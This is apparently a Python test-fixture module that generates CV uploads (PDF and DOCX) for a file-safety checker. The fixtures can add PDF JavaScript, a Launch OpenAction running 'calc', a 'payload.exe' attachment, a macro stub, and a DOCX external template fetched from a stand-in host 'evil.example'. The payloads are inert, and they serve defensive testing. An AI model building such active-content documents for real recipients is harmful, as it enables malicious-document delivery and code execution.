"""CV files for the tests, built here: real PDFs (pypdf) and real DOCX archives (zipfile),
plain or with the active content the checks must refuse."""

from __future__ import annotations

import io
import zipfile

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Léa Martin, ingénieure SRE</w:t></w:r></w:p></w:body></w:document>"
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


def pdf(
    *,
    javascript: bool = False,
    open_action: bool = False,
    attachment: bool = False,
    open_at_page: bool = False,
) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if javascript:  # a document-level script, in the catalogue's names tree
        script = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('cv');"),
            }
        )
        tree = DictionaryObject(
            {
                NameObject("/Names"): ArrayObject(
                    [TextStringObject("cv"), writer._add_object(script)]
                )
            }
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(tree)}
        )
    if open_action:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc")}
        )
        writer._root_object[NameObject("/OpenAction")] = action
    if open_at_page:  # what word processors write: open at page 1, fit to width
        page = writer.pages[0].indirect_reference
        writer._root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/FitH")])
    if attachment:
        writer.add_attachment("payload.exe", b"MZ not really")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def docx(*, macro: bool = False, external_template: bool = False, padding: int = 0) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("word/document.xml", DOCUMENT)
        if macro:
            archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
        if external_template:
            archive.writestr(
                "word/_rels/settings.xml.rels",
                '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
                'officeDocument/2006/relationships/attachedTemplate" '
                'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
            )
        if padding:
            archive.writestr("word/media/zeros.bin", b"\0" * padding)
    return out.getvalue()
